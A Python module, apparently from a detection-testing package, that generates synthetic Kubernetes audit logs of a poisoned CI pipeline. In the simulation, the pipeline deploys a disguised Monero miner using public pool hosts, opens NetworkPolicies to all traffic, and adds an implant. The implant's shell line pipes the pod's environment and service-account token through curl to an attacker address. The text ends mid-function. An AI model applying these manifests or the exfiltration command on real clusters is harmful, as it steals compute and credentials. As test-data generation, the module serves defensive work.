"""A poisoned pipeline (T1496, T1610, T1562.007): a malicious step slipped into a CI job
uses the pipeline's own identity (the ci-deployer service principal, from the self-hosted
runner) to run a cryptocurrency miner across the cluster, take away the network isolation
of the namespaces it needs, and add a container of its own to one or both applications to
forward their data out. The step runs again on the pipeline's next run, hours later, and
re-applies what it changed: the miner with other CPU settings (or new Jobs), the implant
with a newer image.

Per instance: the client the step uses (the runner's kubectl or one it downloads); the
miner's workload kind (a DaemonSet on every node, a Deployment with many replicas, or
batches of Jobs), its name (an imitation of a node agent or add-on), namespace, labels,
tolerations and priority class, image (a public registry, an imitation owner and tag),
how it is created (kubectl apply or create) and retuned (apply or patch); the mining
endpoint (a public pool or the operator's own proxy, with or without a stratum scheme),
the wallet, the option style (short, --option=value, --option value), how the miner is
started (container args, command, or a shell line), its tuning flags and CPU hints; which
namespaces lose their isolation and how (their policies deleted, patched or replaced to
admit everything, or allow-all policies added next to them; an empty rule or any
address), and the added policies' names; which application(s) get the implant, as a
sidecar or an init container, added by kubectl apply, a strategic-merge patch or a JSON
patch, its name, image and the operator's collection endpoint; and the timing, in CI
hours.

Look-alikes: CI, helm and AKS's reconciler roll out node-level DaemonSets (tolerations,
priority classes) from Contoso's registry and MCR; CI runs batch Jobs (migrations, load
tests, cache warmers) whose arguments carry URLs, hosts and user counts; SREs patch,
scale, restart and edit Deployments; CI and helm add sidecars and init containers (log
shippers, mesh proxies, agents) from approved registries; CI creates and updates
NetworkPolicies in several namespaces (default-deny, DNS, same-namespace, scrape,
HTTPS-out policies); refactors of those policies leave server-side dry runs and
`--ignore-not-found` clean-up deletes; preview environments get policies and a workload,
and the namespace controller removes them with the namespace.
"""

from __future__ import annotations

import copy
import dataclasses
import datetime as dt
import json
from collections.abc import Callable
from typing import Any

from pytest_ctirealm.telemetry import environment as env
from pytest_ctirealm.telemetry.benign import aks as k8s
from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.scenarios.aks.common import (
    CI_APPLY,
    KUBECTL_CREATE,
    Family,
    Intrusion,
    created,
)
from pytest_ctirealm.telemetry.scenarios.base import (
    Stages,
    incident_start,
    lookalikes,
    scenario,
)

CAMPAIGN = "aks_poisoned_pipeline"
NETWORKING = "/apis/networking.k8s.io/v1"
APPS_API = "/apis/apps/v1"
BATCH_API = "/apis/batch/v1"
LAST_APPLIED = "kubectl.kubernetes.io/last-applied-configuration"
KUBECTL_PATCH = "fieldManager=kubectl-patch"
KUBECTL_REPLACE = "fieldManager=kubectl-replace"
#: Registries Contoso's workloads pull from.
APPROVED_REGISTRIES = (f"{k8s._REGISTRY}/", f"{k8s._MCR}/", "quay.io/prometheus/")

# --------------------------------------------------------------------------- what varies

#: The runner's own kubectl, or one the step downloads (versions Contoso does not use).
_CLIENTS = (
    k8s._CI_KUBECTL,
    k8s._CI_KUBECTL,
    "kubectl/v1.28.4 (linux/amd64) kubernetes/bae2c62",
    "kubectl/v1.30.1 (linux/amd64) kubernetes/6911225",
    "kubectl/v1.27.3 (linux/amd64) kubernetes/25b4e43",
)
#: Workload names that imitate node agents and add-ons.
_MINER_PREFIXES = ("kube-", "node-", "azure-", "aks-", "csi-", "cni-", "k8s-")
_MINER_WORDS = ("health", "metrics", "log", "net", "disk", "dns", "image", "cert", "time")
_MINER_SUFFIXES = ("-agent", "-monitor", "-exporter", "-helper", "-sync", "-daemon", "-probe")
_MINER_NAMESPACES = {
    "per-node": ("kube-system", "kube-system", "default", "monitoring"),
    "replicated": ("default", "kube-system", "monitoring"),
    "job-batches": ("default", "kube-system", "default"),
}
#: Public registries and owners whose names imitate the projects they are not.
_PUBLIC_REGISTRIES = ("docker.io/", "", "ghcr.io/", "quay.io/")
_MINER_OWNERS = (
    "kubernetesio",
    "k8sio",
    "kubeletio",
    "azurek8s",
    "aksaddons",
    "mcrmirror",
    "containerdio",
    "nodeops",
    "kube-tools",
)
_MINER_TAGS = ("v1.29.2", "v1.28.7", "1.7.2", "v0.6.3", "latest", "v2.1.0", "v1.30.0", "0.9.1")
#: Public Monero pools: host -> ports.
_POOLS: dict[str, tuple[int, ...]] = {
    "pool.supportxmr.com": (3333, 5555, 7777, 443),
    "gulf.moneroocean.stream": (10128, 10001, 20128),
    "xmr-eu1.nanopool.org": (14444, 14433),
    "pool.hashvault.pro": (3333, 443),
    "xmr.2miners.com": (2222, 12222),
    "monero.herominers.com": (1111, 10191),
    "xmr-eu.kryptex.network": (7029, 8029),
}
_PROXY_PORTS = (3333, 443, 8080, 14444, 5555, 80, 9000)
_BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
_TOLERATIONS: tuple[list[dict[str, str]], ...] = (
    [{"operator": "Exists"}],
    [{"key": "CriticalAddonsOnly", "operator": "Exists"}, {"operator": "Exists"}],
    [{"effect": "NoSchedule", "operator": "Exists"}, {"effect": "NoExecute", "operator": "Exists"}],
)
#: Names of the allow-all policies, imitating monitoring and platform changes.
_ALLOW_NAMES = (
    "allow-monitoring",
    "allow-metrics-scrape",
    "allow-health-probes",
    "allow-telemetry",
    "allow-azure-monitor",
    "allow-egress-telemetry",
    "allow-node-exporter",
    "allow-log-shipping",
    "allow-apm-agent",
    "allow-tracing",
)
#: The implant: a name like a log shipper's or proxy's, an imitation image, an endpoint.
_IMPLANT_PREFIXES = ("log-", "otel-", "fluent-", "metrics-", "trace-", "envoy-", "audit-")
_IMPLANT_WORDS = ("forwarder", "agent", "shipper", "collector", "relay", "sidecar", "exporter")
_IMPLANT_OWNERS = (
    "fluentio",
    "otel-contrib",
    "envoyproxyio",
    "grafana-oss",
    "elasticco",
    "logshipper",
    "vectordotdev-oss",
    "opentelemetryio",
)
_IMPLANT_TAGS = ("0.9.4", "v1.3.0", "2.2.1", "v0.101.0", "1.16.2", "3.0.4", "v2.7.1")
_IMPLANT_PORTS = (443, 8443, 9443, 4318, 8080, 24224, 10443)
_IMPLANT_PATHS = ("/ingest", "/v1/logs", "/api/v2/push", "/collect", "/upload", "/bulk", "")


def _wallet(instance: Instance) -> str:
    """A Monero address: 95 base58 characters starting with 4."""
    rng = instance.rng
    return "4" + rng.choice("0123456789AB") + "".join(rng.choice(_BASE58) for _ in range(93))


def _option(style: str, short: str, long: str, value: str) -> list[str]:
    """One miner option as separate argv elements."""
    if style == "short" and short:
        return [short, value]
    return [f"{long}={value}"] if style == "long_eq" else [long, value]


@dataclasses.dataclass(frozen=True)
class _Miner:
    kind: str  # "per-node" | "replicated" | "job-batches"
    name: str
    namespace: str
    labels: dict[str, str]
    image: str
    binary: str
    launch: str  # "launch-args" | "launch-command" | "launch-shell"
    argvs: tuple[list[str], list[str]]  # the miner's options on run 1 and run 2
    resources: dict[str, Any]
    tolerations: list[dict[str, str]] | None
    priority: str | None
    replicas: int
    jobs: int
    parallelism: int
    creation: str  # "kubectl-apply" | "kubectl-create"


def _draw_miner(instance: Instance) -> _Miner:
    kind = instance.pick("miner_kind", ("per-node", "replicated", "job-batches"))
    name = instance.name_like("miner_name", _MINER_PREFIXES, _MINER_WORDS, _MINER_SUFFIXES)
    namespace = instance.pick("miner_namespace", _MINER_NAMESPACES[kind])
    label = instance.pick("miner_label", ("app", "k8s-app", "app.kubernetes.io/name"))
    registry = instance.pick("miner_registry", _PUBLIC_REGISTRIES)
    owner = instance.pick("miner_owner", _MINER_OWNERS)
    image = instance.keep(
        "miner_image", f"{registry}{owner}/{name}:{instance.rng.choice(_MINER_TAGS)}"
    )

    style = instance.pick("miner_option_style", ("short", "long_eq", "long_space"))
    if instance.chance(0.35):
        host = instance.attacker_ip("mining_proxy")
        port = instance.port("mining_proxy_port", _PROXY_PORTS)
    else:
        host = instance.pick("pool_host", sorted(_POOLS))
        port = instance.port("pool_port", _POOLS[host])
    scheme = instance.pick(
        "pool_scheme", ("stratum+ssl://", "") if port == 443 else ("stratum+tcp://", "")
    )
    wallet = instance.keep("wallet", _wallet(instance))
    worker = instance.pick("worker", ("", ".aks", ".k8s", ".node", ".prod"))
    password = instance.pick("pool_password", ("x", "aks", "k8s", "w1"))
    base = [
        *_option(style, "-o", "--url", f"{scheme}{host}:{port}"),
        *_option(style, "-u", "--user", f"{wallet}{worker}"),
        *_option(style, "-p", "--pass", password),
    ]
    markers = {
        "donate": _option(style, "", "--donate-level", instance.pick("donate", ("0", "1"))),
        "algo": _option(style, "-a", "--algo", "rx/0"),
        "coin": _option(style, "", "--coin", "monero"),
        "keepalive": ["-k" if style == "short" else "--keepalive"],
        "no_color": ["--no-color"],
        "print_time": _option(style, "", "--print-time", "60"),
    }
    chosen = instance.sample("miner_flags", sorted(markers), instance.between(1, 3))
    flags = [part for marker in chosen for part in markers[marker]]
    # CPU hints: a share of the threads, or a thread count; the second run retunes them.
    if instance.pick("cpu_option", ("threads-hint", "thread-count")) == "threads-hint":
        hints = instance.sample("cpu_hints", (25, 40, 50, 60, 75, 90, 100), 2)
        tuning = [_option(style, "", "--cpu-max-threads-hint", str(h)) for h in hints]
    else:
        counts = instance.sample("cpu_threads", (1, 2, 3, 4, 6), 2)
        tuning = [_option(style, "-t", "--threads", str(c)) for c in counts]
    argvs = ([*base, *flags, *tuning[0]], [*base, *flags, *tuning[1]])
    requests = {
        "cpu": instance.pick("cpu_request", ("50m", "100m", "200m", "250m")),
        "memory": instance.pick("memory_request", ("64Mi", "128Mi", "256Mi")),
    }
    limit = instance.pick("cpu_limit", ("", "1", "2", "1500m"))
    resources: dict[str, Any] = {"requests": requests}
    if limit:
        resources["limits"] = {"cpu": limit}
    binary = instance.pick(
        "miner_binary",
        (f"/usr/local/bin/{name}", f"/opt/{name}/bin/agent", f"./{name}", f"/bin/{name}"),
    )
    per_node = kind == "per-node"
    return _Miner(
        kind=kind,
        name=name,
        namespace=namespace,
        labels={label: name},
        image=image,
        binary=binary,
        launch=instance.pick("miner_launch", ("launch-args", "launch-command", "launch-shell")),
        argvs=argvs,
        resources=resources,
        tolerations=instance.pick("tolerations", _TOLERATIONS)
        if per_node or instance.chance(0.5)
        else None,
        priority=instance.pick(
            "priority_class", ("system-node-critical", "system-cluster-critical", "")
        )
        or None,
        replicas=instance.between(6, 24) if kind == "replicated" else 0,
        jobs=instance.between(1, 3) if kind == "job-batches" else 0,
        parallelism=instance.between(3, 8) if kind == "job-batches" else 0,
        creation=instance.pick("miner_creation", ("kubectl-apply", "kubectl-create")),
    )


@dataclasses.dataclass(frozen=True)
class _Isolation:
    change: str  # "policies-removed" | "policies-opened" | "allow-all-added"
    form: str  # "empty-rule" | "any-address"
    namespaces: tuple[str, ...]
    method: str  # how: see `_draw_isolation`
    names: tuple[str, str]  # the added policies (ingress, egress)


@dataclasses.dataclass(frozen=True)
class _Implant:
    apps: tuple[k8s._App, ...]
    name: str
    images: tuple[str, str]
    endpoint: str
    slot: str  # "app-sidecar" | "init-container"
    method: str  # "client-side-apply" | "strategic-merge" | "json-patch"
    args_form: str


def _draw_implant(instance: Instance) -> _Implant:
    names = instance.sample(
        "implanted_apps", [app.name for app in k8s._APPS], instance.between(1, 2)
    )
    apps = tuple(app for app in k8s._APPS if app.name in names)
    name = instance.name_like("implant_name", _IMPLANT_PREFIXES, _IMPLANT_WORDS)
    registry = instance.pick("implant_registry", _PUBLIC_REGISTRIES)
    owner = instance.pick("implant_owner", _IMPLANT_OWNERS)
    # The image's own name (recorded within the image references below).
    image_name = instance.rng.choice((name, name.split("-")[1], "agent"))
    tags = instance.sample("implant_tags", _IMPLANT_TAGS, 2)
    images = (
        f"{registry}{owner}/{image_name}:{tags[0]}",
        f"{registry}{owner}/{image_name}:{tags[1]}",
    )
    instance.keep("implant_images", list(images))
    host = instance.attacker_ip("collector")
    port = instance.port("collector_port", _IMPLANT_PORTS)
    scheme = "http" if port in (8080, 24224) else "https"
    endpoint = f"{scheme}://{host}:{port}{instance.pick('collector_path', _IMPLANT_PATHS)}"
    instance.keep("collector_url", endpoint)
    return _Implant(
        apps=apps,
        name=name,
        images=images,
        endpoint=endpoint,
        slot=instance.pick("implant_slot", ("app-sidecar", "app-sidecar", "init-container")),
        method=instance.pick(
            "implant_method", ("client-side-apply", "strategic-merge", "json-patch")
        ),
        args_form=instance.pick(
            "implant_args", ("args-forward", "args-output", "env-endpoint", "fluent-bit-style")
        ),
    )


def _existing_policies(day: int) -> dict[str, tuple[str, ...]]:
    """The NetworkPolicies each application namespace holds (api's default-deny from the
    first day's CI run on)."""
    policies: dict[str, tuple[str, ...]] = {app.namespace: (app.policy,) for app in k8s._APPS}
    if day >= 1:
        policies["api"] = ("api-default-deny", *policies["api"])
    return policies


def _draw_isolation(instance: Instance, implant: _Implant, day: int) -> _Isolation:
    change = instance.pick(
        "isolation_change", ("policies-removed", "policies-opened", "allow-all-added")
    )
    namespaces = [app.namespace for app in implant.apps]
    others = [app.namespace for app in k8s._APPS if app.namespace not in namespaces]
    existing = _existing_policies(day)
    few = change != "allow-all-added" and sum(len(existing[ns]) for ns in namespaces) < 2
    if others and (few or instance.chance(0.3)):
        namespaces.append(others[0])
    methods = {
        "policies-removed": ("delete-each", "delete-listed"),
        "policies-opened": ("merge-patch", "kubectl-replace"),
        "allow-all-added": ("kubectl-apply", "kubectl-create"),
    }
    names = instance.sample("allow_policy_names", _ALLOW_NAMES, 2)
    return _Isolation(
        change=change,
        form=instance.pick("open_form", ("empty-rule", "any-address")),
        namespaces=tuple(instance.keep("isolation_namespaces", namespaces)),
        method=instance.pick("isolation_method", methods[change]),
        names=(names[0], names[1]),
    )


# --------------------------------------------------------------------------- the intrusion


@scenario(
    CAMPAIGN,
    "aks",
    (
        "ci_access",
        "miner_daemonset",
        "miner_pods",
        "netpol_opened",
        "sidecar_implant",
        "sidecar_rollout",
    ),
)
def aks_poisoned_pipeline(ctx: SimContext) -> Stages:
    """Two runs of the poisoned job: the first deploys the miner, opens the namespaces and
    adds the implant; the second, hours later, re-applies the miner and implant changed."""
    instance = Instance(ctx, CAMPAIGN)
    start = incident_start(ctx, "aks-pipeline", (9, 15))
    if ctx.days > 1 and start < ctx.day_start(1):
        start += dt.timedelta(days=1)  # after the first day's CI has set up api's policies
    t = Intrusion(ctx, CAMPAIGN, start)
    ci = dataclasses.replace(
        k8s._ci(t.rng, k8s._CI_KUBECTL), agent=instance.pick("client", _CLIENTS)
    )
    miner = _draw_miner(instance)
    implant = _draw_implant(instance)
    isolation = _draw_isolation(instance, implant, (start - ctx.start).days)
    order = instance.pick("order", ("miner-first", "network-first"))

    t.emit("ci_access", ci, "get", "/openapi/v2?timeout=32s")
    if order == "miner-first":
        _miner(t, ci, miner, 0)
        _open_isolation(t, ci, isolation)
    else:
        _open_isolation(t, ci, isolation)
        _miner(t, ci, miner, 0)
    for app in implant.apps:
        _implant(t, ci, implant, app, 0)

    # The next pipeline run, later the same working day.
    second = start + dt.timedelta(hours=t.rng.uniform(1.5, 5))
    t.now = max(t.now + dt.timedelta(minutes=20), min(second, ctx.end - dt.timedelta(minutes=25)))
    t.emit("ci_access", ci, "get", "/openapi/v2?timeout=32s")
    _miner(t, ci, miner, 1)
    _recheck_isolation(t, ci, isolation)
    for app in implant.apps:
        _implant(t, ci, implant, app, 1)
    return t.stages


# -- the miner


def _miner_container(miner: _Miner, run: int) -> dict[str, Any]:
    argv = miner.argvs[run]
    container: dict[str, Any] = {"name": miner.name, "image": miner.image}
    if miner.launch == "launch-args":
        container["args"] = list(argv)
    elif miner.launch == "launch-command":
        container["command"] = [miner.binary, *argv]
    else:
        container["command"] = ["/bin/sh", "-c", " ".join([miner.binary, *argv])]
    container["resources"] = copy.deepcopy(miner.resources)
    return container


def _miner_command(miner: _Miner, run: int) -> tuple[str, ...]:
    """What the pod runs, as the pod spec the controllers submit records it."""
    if miner.launch == "launch-shell":
        return ("/bin/sh", "-c", " ".join([miner.binary, *miner.argvs[run]]))
    return (miner.binary, *miner.argvs[run])


def _pod_template(miner: _Miner, run: int, restart: str = "") -> dict[str, Any]:
    spec: dict[str, Any] = {"containers": [_miner_container(miner, run)]}
    if miner.tolerations is not None:
        spec["tolerations"] = copy.deepcopy(miner.tolerations)
    if miner.priority:
        spec["priorityClassName"] = miner.priority
    if restart:
        spec["restartPolicy"] = restart
    return {"metadata": {"labels": dict(miner.labels)}, "spec": spec}


def _miner_manifest(miner: _Miner, run: int, job: str = "") -> dict[str, Any]:
    meta = {"name": job or miner.name, "namespace": miner.namespace, "labels": dict(miner.labels)}
    if miner.kind == "job-batches":
        return {
            "apiVersion": "batch/v1",
            "kind": "Job",
            "metadata": meta,
            "spec": {
                "parallelism": miner.parallelism,
                "completions": miner.parallelism,
                "backoffLimit": 100,
                "template": _pod_template(miner, run, "OnFailure"),
            },
        }
    spec: dict[str, Any] = {
        "selector": {"matchLabels": dict(miner.labels)},
        "template": _pod_template(miner, run),
    }
    if miner.kind == "replicated":
        spec = {"replicas": miner.replicas, **spec}
    return {
        "apiVersion": "apps/v1",
        "kind": "DaemonSet" if miner.kind == "per-node" else "Deployment",
        "metadata": meta,
        "spec": spec,
    }


def _with_last_applied(manifest: dict[str, Any]) -> dict[str, Any]:
    """*manifest* as `kubectl apply` sends it on creation: with its own copy annotated."""
    out = copy.deepcopy(manifest)
    out["metadata"].setdefault("annotations", {})[LAST_APPLIED] = json.dumps(manifest)
    return out


def _create(
    t: Intrusion,
    stage: str,
    who: k8s._Who,
    collection: str,
    manifest: dict[str, Any],
    how: str,
    *,
    after: float,
) -> None:
    """`kubectl apply` (a GET that finds nothing, then a create with the last-applied
    annotation) or `kubectl create` of *manifest* into *collection*, as *how* says."""
    name = manifest["metadata"]["name"]
    if how == "kubectl-apply":
        t.emit("ci_access", who, "get", f"{collection}/{name}", after=after, code=404)
        body, query, after = _with_last_applied(manifest), CI_APPLY, 0.3
    else:
        body, query = manifest, KUBECTL_CREATE
    t.emit(
        stage,
        who,
        "create",
        f"{collection}?{query}",
        after=after,
        request=body,
        response=created(body, t.now),
        code=201,
        name=name,
    )


def _miner(t: Intrusion, ci: k8s._Who, miner: _Miner, run: int) -> None:
    """Run 1 creates the miner's workload; run 2 re-applies it with other CPU settings (or
    submits new Jobs). The controllers then start its pods."""
    if miner.kind == "job-batches":
        collection = f"{BATCH_API}/namespaces/{miner.namespace}/jobs"
        for _ in range(miner.jobs):
            job = f"{miner.name}-{int(t.now.timestamp() // 60) + t.rng.randrange(1, 400)}"
            _create(
                t,
                "miner_daemonset",
                ci,
                collection,
                _miner_manifest(miner, run, job),
                miner.creation,
                after=6,
            )
            _job_pods(t, miner, run, job)
        return
    resource = "daemonsets" if miner.kind == "per-node" else "deployments"
    collection = f"{APPS_API}/namespaces/{miner.namespace}/{resource}"
    manifest = _miner_manifest(miner, run)
    if run == 0:
        _create(t, "miner_daemonset", ci, collection, manifest, miner.creation, after=8)
    else:
        # The miner retuned: kubectl apply sends the changed argument list (the annotation
        # carries the rest); kubectl patch sends it alone. The image stays.
        t.emit("ci_access", ci, "get", f"{collection}/{miner.name}", after=8)
        container = _miner_container(miner, run)
        changed = {key: container[key] for key in ("name", "args", "command") if key in container}
        patch: dict[str, Any] = {"spec": {"template": {"spec": {"containers": [changed]}}}}
        query = KUBECTL_PATCH
        if miner.creation == "kubectl-apply":
            patch = {"metadata": {"annotations": {LAST_APPLIED: json.dumps(manifest)}}, **patch}
            query = CI_APPLY
        t.emit(
            "miner_daemonset",
            ci,
            "patch",
            f"{collection}/{miner.name}?{query}",
            after=0.3,
            request=patch,
            response=k8s._stored(manifest, t.now),
        )
    if miner.kind == "per-node":
        _daemonset_pods(t, miner, run)
    else:
        _deployment_pods(t, miner, run)


def _pod_shape(miner: _Miner, run: int) -> k8s._PodShape:
    return k8s._PodShape("default", miner.image, _miner_command(miner, run), container=miner.name)


def _pod_labels(miner: _Miner, **extra: str) -> dict[str, str]:
    # `_pod` names the container after the `app` label when the shape does not.
    return {**miner.labels, **extra}


def _daemonset_pods(t: Intrusion, miner: _Miner, run: int) -> None:
    controller = k8s._CALLERS["ctrl:daemon-set-controller"][0]
    seed = str(t.ctx.seed)
    revision = k8s._suffix(10, miner.name, seed, str(run))
    when = t.now + dt.timedelta(seconds=0.4)
    for node, node_name in enumerate(k8s._NODES):
        if run:
            old = f"{miner.name}-{k8s._suffix(5, miner.name, node_name, seed, str(run - 1))}"
            t.day().emit(
                controller,
                "delete",
                f"/api/v1/namespaces/{miner.namespace}/pods/{old}",
                when,
                request=k8s._delete_options(),
                response=k8s._deleted("pods", old),
            )
            when += dt.timedelta(seconds=t.rng.uniform(5, 20))
        pod = f"{miner.name}-{k8s._suffix(5, miner.name, node_name, seed, str(run))}"
        when = t.day().create_pod(
            controller,
            _pod_shape(miner, run),
            pod,
            miner.namespace,
            node,
            k8s._owner("DaemonSet", miner.name, "apps/v1"),
            _pod_labels(miner, **{"controller-revision-hash": revision}),
            when + dt.timedelta(seconds=t.rng.uniform(0.05, 0.4)),
        )
    t.file("miner_pods")


def _deployment_pods(t: Intrusion, miner: _Miner, run: int) -> None:
    """The deployment controller's ReplicaSet (a copy of the template) and its pods."""
    template = k8s._suffix(10, miner.name, str(t.ctx.seed), str(run))
    labels = _pod_labels(miner, **{"pod-template-hash": template})
    rs_name = f"{miner.name}-{template}"
    pod_template = _pod_template(miner, run)
    pod_template["metadata"]["labels"] = labels
    replicaset = {
        "kind": "ReplicaSet",
        "apiVersion": "apps/v1",
        "metadata": k8s._meta(
            rs_name,
            miner.namespace,
            labels=labels,
            ownerReferences=k8s._owner("Deployment", miner.name, "apps/v1"),
        ),
        "spec": {
            "replicas": miner.replicas,
            "selector": {"matchLabels": labels},
            "template": pod_template,
        },
    }
    t.emit(
        "miner_pods",
        k8s._CALLERS["ctrl:deployment-controller"][0],
        "create",
        f"{APPS_API}/namespaces/{miner.namespace}/replicasets",
        after=0.2,
        request=replicaset,
        response=created(replicaset, t.now),
        code=201,
        name=rs_name,
    )
    creator = k8s._CALLERS["ctrl:replicaset-controller"][0]
    owner = k8s._owner("ReplicaSet", rs_name, "apps/v1")
    when = t.now
    for index in range(miner.replicas):
        pod = f"{rs_name}-{k8s._suffix(5, template, str(index))}"
        t.day().create_pod(
            creator,
            _pod_shape(miner, run),
            pod,
            miner.namespace,
            k8s._pod_node(pod),
            owner,
            labels,
            when + dt.timedelta(seconds=t.rng.uniform(0.02, 0.3)),
        )
        when += dt.timedelta(seconds=t.rng.uniform(0.02, 0.2))
    t.file("miner_pods")


def _job_pods(t: Intrusion, miner: _Miner, run: int, job: str) -> None:
    creator = k8s._CALLERS["ctrl:job-controller"][0]
    when = t.now + dt.timedelta(seconds=0.2)
    for index in range(miner.parallelism):
        pod = f"{job}-{k8s._suffix(5, job, str(t.ctx.seed), str(index))}"
        t.day().create_pod(
            creator,
            _pod_shape(miner, run),
            pod,
            miner.namespace,
            k8s._pod_node(pod),
            k8s._owner("Job", job, "batch/v1"),
            _pod_labels(miner, **{"job-name": job}),
            when + dt.timedelta(seconds=t.rng.uniform(0.02, 0.3)),
        )
        when += dt.timedelta(seconds=t.rng.uniform(0.02, 0.2))
    t.file("miner_pods")


# -- network isolation


def _open_rules(form: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """An ingress and an egress rule that admit everything."""
    if form == "empty-rule":
        return {}, {}
    return (
        {"from": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]},
        {"to": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]},
    )


def _app_policy(namespace: str, name: str) -> dict[str, Any]:
    """A policy of an application namespace as it stands before the intrusion."""
    if name.endswith("default-deny"):
        return {
            "apiVersion": "networking.k8s.io/v1",
            "kind": "NetworkPolicy",
            "metadata": {"name": name, "namespace": namespace},
            "spec": {"podSelector": {}, "policyTypes": ["Ingress"]},
        }
    app = next(a for a in k8s._APPS if a.policy == name)
    return k8s._network_policy(name, namespace, app.name)


def _open_isolation(t: Intrusion, ci: k8s._Who, isolation: _Isolation) -> None:
    """Each namespace's isolation taken away, in the instance's way."""
    existing = _existing_policies((t.now - t.ctx.start).days)
    ingress, egress = _open_rules(isolation.form)
    for namespace in isolation.namespaces:
        collection = f"{NETWORKING}/namespaces/{namespace}/networkpolicies"
        if isolation.change == "allow-all-added":
            for name, kind, rule in (
                (isolation.names[0], "Ingress", ingress),
                (isolation.names[1], "Egress", egress),
            ):
                policy: dict[str, Any] = {
                    "apiVersion": "networking.k8s.io/v1",
                    "kind": "NetworkPolicy",
                    "metadata": {"name": name, "namespace": namespace},
                    "spec": {
                        "podSelector": {},
                        "policyTypes": [kind],
                        kind.lower(): [copy.deepcopy(rule)],
                    },
                }
                _create(t, "netpol_opened", ci, collection, policy, isolation.method, after=15)
            continue
        if isolation.method == "delete-listed" or isolation.change == "policies-opened":
            t.emit("ci_access", ci, "list", f"{collection}?limit=500", after=15)
        for name in existing[namespace]:
            if isolation.change == "policies-removed":
                t.emit(
                    "netpol_opened",
                    ci,
                    "delete",
                    f"{collection}/{name}",
                    after=2 if isolation.method == "delete-listed" else 12,
                    request=k8s._delete_options(),
                    response=k8s._deleted("networkpolicies", name),
                )
                continue
            policy = _app_policy(namespace, name)
            opened = copy.deepcopy(policy)
            spec = opened["spec"]
            spec["ingress"] = [copy.deepcopy(ingress)]
            if "Egress" in spec["policyTypes"]:
                spec["egress"] = [copy.deepcopy(egress)]
            if isolation.method == "merge-patch":
                body: dict[str, Any] = {
                    "spec": {key: spec[key] for key in ("ingress", "egress") if key in spec}
                }
                t.emit(
                    "netpol_opened",
                    ci,
                    "patch",
                    f"{collection}/{name}?{KUBECTL_PATCH}",
                    after=6,
                    request=body,
                    response=k8s._stored(opened, t.now),
                )
            else:
                t.emit("ci_access", ci, "get", f"{collection}/{name}", after=4)
                t.emit(
                    "netpol_opened",
                    ci,
                    "update",
                    f"{collection}/{name}?{KUBECTL_REPLACE}",
                    after=0.4,
                    request=opened,
                    response=k8s._stored(opened, t.now),
                )


def _recheck_isolation(t: Intrusion, ci: k8s._Who, isolation: _Isolation) -> None:
    """The next run re-applies its network step: unchanged policies are only read; the
    deletes, with --ignore-not-found, find nothing left to delete."""
    existing = _existing_policies((t.now - t.ctx.start).days)
    for namespace in isolation.namespaces:
        collection = f"{NETWORKING}/namespaces/{namespace}/networkpolicies"
        if isolation.change == "allow-all-added":
            for name in isolation.names:
                t.emit("ci_access", ci, "get", f"{collection}/{name}", after=5)
        elif isolation.change == "policies-removed":
            for name in existing[namespace]:
                t.emit(
                    "ci_access",
                    ci,
                    "delete",
                    f"{collection}/{name}",
                    after=5,
                    request=k8s._delete_options(),
                    code=404,
                )
        else:
            t.emit("ci_access", ci, "list", f"{collection}?limit=500", after=5)


# -- the implant


def _current_image(t: Intrusion, app: k8s._App) -> str:
    """The image CI last rolled out for *app* before now (an earlier day's, if none today)."""
    day = (t.now - t.ctx.start).days
    while day >= -7:
        plan = k8s._deploy_plan(t.ctx, day)[app.name]
        earlier = [moment for moment in plan if moment < t.now]
        if earlier:
            moment = earlier[-1]
            start = t.ctx.day_start(day)
            tag = (
                f"{start:%Y.%m.%d}-{env.stable_hex(7, str(t.ctx.seed), app.name, k8s._ts(moment))}"
            )
            return f"{k8s._REGISTRY}/{app.namespace}/{app.name}:{tag}"
        day -= 1
    return f"{k8s._REGISTRY}/{app.namespace}/{app.name}:stable"


def _implant_container(implant: _Implant, run: int) -> dict[str, Any]:
    """The implant: it ships the pod's environment, token or logs to the operator."""
    url = implant.endpoint
    container: dict[str, Any] = {"name": implant.name, "image": implant.images[run]}
    if implant.slot == "init-container":
        grab = "(env; cat /var/run/secrets/kubernetes.io/serviceaccount/token)"
        container["command"] = [
            "/bin/sh",
            "-c",
            f"{grab} | gzip | curl -sk -X POST --data-binary @- {url} || true",
        ]
        return container
    if implant.args_form == "args-forward":
        container["args"] = ["--forward", url, "--env"]
    elif implant.args_form == "args-output":
        container["args"] = ["--output", url, "--include-env", "--tail=/var/log/*.log"]
    elif implant.args_form == "env-endpoint":
        container["env"] = [
            {"name": "EXPORT_ENDPOINT", "value": url},
            {"name": "COLLECT_ENV", "value": "true"},
        ]
    else:
        host, _, port = url.split("://")[1].split("/")[0].partition(":")
        container["args"] = [
            "-i",
            "tail",
            "-p",
            "path=/var/log/containers/*.log",
            "-o",
            "http",
            "-p",
            f"host={host}",
            "-p",
            f"port={port}",
            "-p",
            "tls=on",
        ]
    container["volumeMounts"] = [{"name": "varlog", "mountPath": "/var/log", "readOnly": True}]
    return container


def _implant(t: Intrusion, ci: k8s._Who, implant: _Implant, app: k8s._App, run: int) -> None:
    """The implant added to (run 1) or updated in (run 2) *app*'s Deployment."""
    container = _implant_container(implant, run)
    field = "initContainers" if implant.slot == "init-container" else "containers"
    manifest = k8s._deployment(app, _current_image(t, app))
    pod_spec = manifest["spec"]["template"]["spec"]
    pod_spec.setdefault(field, []).append(container)
    path = f"{APPS_API}/namespaces/{app.namespace}/deployments/{app.name}"
    t.emit("ci_access", ci, "get", path, after=25 if run == 0 else 12)
    if implant.method == "client-side-apply":
        spec: dict[str, Any] = {field: [container]}
        if field == "containers":
            spec["$setElementOrder/containers"] = [{"name": app.name}, {"name": implant.name}]
        body: Any = {
            "metadata": {"annotations": {LAST_APPLIED: json.dumps(manifest)}},
            "spec": {"template": {"spec": spec}},
        }
        query = CI_APPLY
    elif implant.method == "strategic-merge":
        body = {"spec": {"template": {"spec": {field: [container]}}}}
        query = KUBECTL_PATCH
    else:
        base = f"/spec/template/spec/{field}"
        if run == 0:
            target, value = (
                (f"{base}/-", container) if field == "containers" else (base, [container])
            )
            body = [{"op": "add", "path": target, "value": value}]
        else:
            body = [
                {
                    "op": "replace",
                    "path": f"{base}/{1 if field == 'containers' else 0}",
                    "value": container,
                }
            ]
        query = KUBECTL_PATCH
    t.emit(
        "sidecar_implant",
